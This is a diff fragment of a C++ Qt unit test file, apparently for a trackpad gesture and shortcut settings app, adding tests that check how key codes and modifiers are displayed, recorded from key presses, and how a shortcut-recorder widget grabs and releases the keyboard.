-  EXPECT_LT(position(rows[0]->deleteButton()), position(rows[1]->kindPicker()));
-  EXPECT_LT(position(rows[1]->saveButton()), position(tab->addGestureButton()));
-  EXPECT_LT(position(tab->addGestureButton()), position(tab->restoreButton()));
+  const std::vector<QWidget*> ordered{tab->backupButton(),     rows[0]->kindPicker(),
+                                      rows[0]->recorder(),     rows[0]->deleteButton(),
+                                      rows[1]->kindPicker(),   rows[1]->saveButton(),
+                                      tab->addGestureButton(), tab->restoreButton()};
+  EXPECT_TRUE(std::ranges::is_sorted(ordered, {}, at));
 }
 
 // Each opening of the tab watches the store only while it lives: a closed one is never called.
@@ -519,6 +445,141 @@ TEST_F(GesturesTabTest, ChangesSavedElsewhereRedrawTheTabWhileItLives) {
     EXPECT_EQ(rowNames(*tab), QStringList({"2-Finger Tap"}));
   }
   save({Profile{std::nullopt, {}}});
+}
+
+constexpr std::uint64_t shift = 0x20000;
+constexpr std::uint64_t control = 0x40000;
+constexpr std::uint64_t option = 0x80000;
+constexpr std::uint64_t command = 0x100000;
+
+const lx::LinuxKeyboardKeys linuxKeyboard;
+const sim::SimKeyboardKeys simKeyboard;
+const ShortcutKeys linuxKeys{linuxKeyboard};
+
+using Recorded = std::pair<std::uint16_t, std::uint64_t>;
+Recorded recorded(const ShortcutRecorder& recorder) {
+  return {recorder.keyCode(), recorder.modifiers()};
+}
+
+TEST(ShortcutKeys, DisplaysShortcutsInTheWordsOfTheKeysPressedOnLinux) {
+  const std::tuple<std::uint16_t, std::uint64_t, QString> cases[] = {
+      // Key code 0 is A: with Command (Ctrl here) it is a shortcut, not the empty one.
+      {0, command, QStringLiteral("Ctrl+A")},
+      {96, control | option | shift | command, QStringLiteral("Super+Ctrl+Alt+Shift+F5")},
+      // Keys named as the recorder names them, not as Qt abbreviates them.
+      {53, 0, QStringLiteral("Escape")},
+      {123, option, QStringLiteral("Alt+\u2190")},
+      // Caps Lock and other flags are not modifiers of a shortcut.
+      {17, command | 0x10000, QStringLiteral("Ctrl+T")},
+      // A key without a name here: its stored code, as a file from elsewhere may hold.
+      {52, 0, QStringLiteral("Key 52")},
+      {52, command, QStringLiteral("Ctrl+Key 52")},
+      // A key only Linux keyboards name, stored in the reserved range.
+      {0x1000 + KEY_BRIGHTNESSUP, 0, QStringLiteral("Monitor Brightness Up")},
+  };
+  for (const auto& [keyCode, modifiers, text] : cases) {
+    EXPECT_EQ(linuxKeys.displayText(keyCode, modifiers), text) << keyCode;
+  }
+  EXPECT_EQ(ShortcutKeys::modifierText(control | shift), QStringLiteral("Super+Shift"));
+  // The simulation names the shared keys alone.
+  EXPECT_EQ(ShortcutKeys(simKeyboard).displayText(0x1000 + KEY_BRIGHTNESSUP, 0),
+            QStringLiteral("Key 4321"));
+}
+
+// Every key a keyboard names is a key of Qt's, and pressing that key records its key code: what
+// the recorder shows is what it stores, for each platform's keyboard.
+TEST(ShortcutKeys, EveryNamedKeyIsAQtKeyThatRecordsItsOwnCode) {
+  for (const platform::KeyboardKeys* keyboard :
+       std::initializer_list<const platform::KeyboardKeys*>{&linuxKeyboard, &simKeyboard}) {
+    const ShortcutKeys keys(*keyboard);
+    std::size_t named = 0;
+    for (std::uint32_t code = 0; code <= lx::KeyCodeTable::reservedBase + KEY_MAX; ++code) {
+      const auto keyCode = static_cast<std::uint16_t>(code);
+      const auto qtKey = keys.qtKey(keyCode);
+      if (!qtKey) {
+        continue;
+      }
+      ++named;
+      EXPECT_EQ(QKeySequence(*qtKey).toString(QKeySequence::PortableText).toStdString(),
+                keyboard->keyName(keyCode))
+          << code;
+      EXPECT_EQ(keys.fromKeyPress(*qtKey, Qt::ControlModifier, std::nullopt),
+                (ShortcutKeys::Shortcut{keyCode, command}))
+          << code;
+    }
+    EXPECT_GE(named, platform::KeyNames::entries().size());  // every shared key at least
+  }
+}
+
+TEST(ShortcutKeys, KeyPressesRecordTheirKeyOrNothing) {
+  using Shortcut = ShortcutKeys::Shortcut;
+  const auto x = [](std::uint16_t linuxKey) { return std::optional<std::uint32_t>(linuxKey + 8); };
+  const std::tuple<int, Qt::KeyboardModifiers, std::optional<std::uint32_t>,
+                   std::optional<Shortcut>>
+      cases[] = {
+          // Modifier keys alone record nothing, by Qt's key or by keycode; the keycode wins over
+          // Qt's key (a layout's symbol), and kernel keys Qt has no name for are still stored.
+          {Qt::Key_Meta, Qt::MetaModifier, std::nullopt, std::nullopt},
+          {0, Qt::NoModifier, x(KEY_LEFTSHIFT), std::nullopt},
+          {Qt::Key_Q, Qt::NoModifier, x(KEY_A), Shortcut{0, 0}},
+          {0, Qt::NoModifier, x(KEY_PROG1), Shortcut{0x1000 + KEY_PROG1, 0}},
+          // Without a keycode, shifted symbols are their key with Shift held.
+          {Qt::Key_Exclam, Qt::ShiftModifier, std::nullopt, Shortcut{18, shift}},
+          {Qt::Key_Question, Qt::ShiftModifier, x(0), Shortcut{44, shift}},
+          {Qt::Key_Launch0, Qt::NoModifier, std::nullopt, std::nullopt},
+      };
+  for (const auto& [qtKey, modifiers, xKeycode, expected] : cases) {
+    EXPECT_EQ(linuxKeys.fromKeyPress(qtKey, modifiers, xKeycode), expected) << qtKey;
+  }
+  // The simulation reads no keycodes: it goes by Qt's key.
+  EXPECT_EQ(ShortcutKeys(simKeyboard).fromKeyPress(Qt::Key_Q, Qt::NoModifier, x(KEY_A)),
+            (Shortcut{12, 0}));
+}
+
+TEST(ShortcutRecorder, ClickRecordsTheNextKeyWithItsModifiersAndReleasesTheGrab) {
+  ShortcutRecorder recorder(linuxKeyboard);
+  recorder.show();
+  EXPECT_EQ(recorder.text(), QStringLiteral("Click to record\u2026"));
+  QSignalSpy captured(&recorder, &ShortcutRecorder::captured);
+
+  QTest::mouseClick(&recorder, Qt::LeftButton);
+  EXPECT_TRUE(recorder.isRecording());
+  EXPECT_EQ(recorder.text(), QStringLiteral("Press a key combination\u2026"));
+  EXPECT_EQ(QWidget::keyboardGrabber(), &recorder);
+
+  // Modifiers going down alone keep the field recording.
+  QTest::keyPress(&recorder, Qt::Key_Control, Qt::ControlModifier);
+  QTest::keyPress(&recorder, Qt::Key_Shift, Qt::ControlModifier | Qt::ShiftModifier);
+  EXPECT_TRUE(recorder.isRecording());
+  QTest::keyClick(&recorder, Qt::Key_T, Qt::ControlModifier | Qt::ShiftModifier);
+
+  EXPECT_FALSE(recorder.isRecording());
+  EXPECT_EQ(QWidget::keyboardGrabber(), nullptr);
+  EXPECT_EQ(captured.count(), 1);
+  EXPECT_EQ(recorded(recorder), Recorded(17, command | shift));  // T
+  EXPECT_EQ(recorder.text(), QStringLiteral("Ctrl+Shift+T"));
+
+  // Escape, Return, Tab and Backspace are keys like any other, not ways out of recording.
+  for (const auto& [key, code] : {std::pair{Qt::Key_Escape, 53}, std::pair{Qt::Key_Return, 36},
+                                  std::pair{Qt::Key_Tab, 48}, std::pair{Qt::Key_Backspace, 51}}) {
+    QTest::mouseClick(&recorder, Qt::LeftButton);
+    QTest::keyClick(&recorder, key);
+    EXPECT_FALSE(recorder.isRecording()) << code;
+    EXPECT_EQ(recorded(recorder), Recorded(code, 0));
+  }
+
+  // A second click starts afresh; hiding or destroying a recording field lets go of the keyboard.
+  QTest::mouseClick(&recorder, Qt::LeftButton);
+  QTest::mouseClick(&recorder, Qt::LeftButton);
+  EXPECT_TRUE(recorder.isRecording());
+  recorder.hide();
+  EXPECT_FALSE(recorder.isRecording());
+  EXPECT_EQ(QWidget::keyboardGrabber(), nullptr);
+  auto another = std::make_unique<ShortcutRecorder>(linuxKeyboard);
+  another->show();
+  QTest::mouseClick(another.get(), Qt::LeftButton);
+  another.reset();
+  EXPECT_EQ(QWidget::keyboardGrabber(), nullptr);
 }
 
 }  // namespace
